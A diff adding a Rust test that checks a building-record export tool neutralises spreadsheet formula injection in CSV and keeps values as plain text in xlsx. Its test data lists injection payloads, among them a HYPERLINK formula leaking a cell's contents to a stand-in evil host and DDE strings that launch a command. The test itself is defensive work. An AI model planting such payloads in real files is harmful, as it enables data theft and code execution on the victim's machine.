@@ -766,3 +766,66 @@ fn common_header_variants_are_accepted() {
     let records = parse_residents(Format::Csv, Cursor::new(csv), &mut no_progress()).unwrap();
     assert_eq!(records[0].phone.as_ref().unwrap().as_str(), "0512-65201234");
 }
+
+/// Building names and addresses typed as formulas: CSV guards each with `'`, xlsx stores them
+/// as strings (no formula anywhere in the workbook), and both import back as typed; numbers,
+/// negative ones included, stay numbers.
+#[test]
+fn formula_injection_is_neutralised_in_csv_and_stays_text_in_xlsx() {
+    let evil = [
+        "=HYPERLINK(\"http://evil.example/\"&A2,\"点击查看\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let records: Vec<BuildingRecord> = evil
+        .iter()
+        .enumerate()
+        .map(|(i, text)| BuildingRecord {
+            code: format!("320508019044001-{:03}", i + 1),
+            grid: grid(),
+            name: format!("{i}号楼"),
+            address: (*text).to_string(),
+            lon: 120.6,
+            lat: -0.5,
+            floors: 6,
+        })
+        .collect();
+
+    let mut out = Vec::new();
+    export_csv(&records, false, &mut out).unwrap();
+    let text = String::from_utf8(out.clone()).unwrap();
+    let mut reader =
+        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    for (row, address) in reader.records().zip(evil) {
+        let row = row.unwrap();
+        assert_eq!(row[3], format!("'{address}"), "CSV cell left runnable");
+        assert_eq!(&row[5], "-0.5", "a number is not text");
+    }
+    // Trimmed on import like every cell, the tab- and CR-led ones come back without them.
+    let trimmed: Vec<BuildingRecord> = records
+        .iter()
+        .cloned()
+        .map(|mut b| {
+            b.address = b.address.trim().to_string();
+            b
+        })
+        .collect();
+    let back: Vec<BuildingRecord> = parse_bytes(&out, &mut no_progress()).unwrap();
+    assert_eq!(back, trimmed);
+
+    let bytes = export_xlsx(&records, false).unwrap();
+    let mut wb: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
+    let name = wb.sheet_names()[0].clone();
+    let formulas = wb.worksheet_formula(&name).unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "the workbook holds a formula"
+    );
+    let (_, rows) = read_sheet(&bytes, 0);
+    for (row, address) in rows[1..].iter().zip(evil) {
+        assert_eq!(row[3], s(address));
+    }
+}
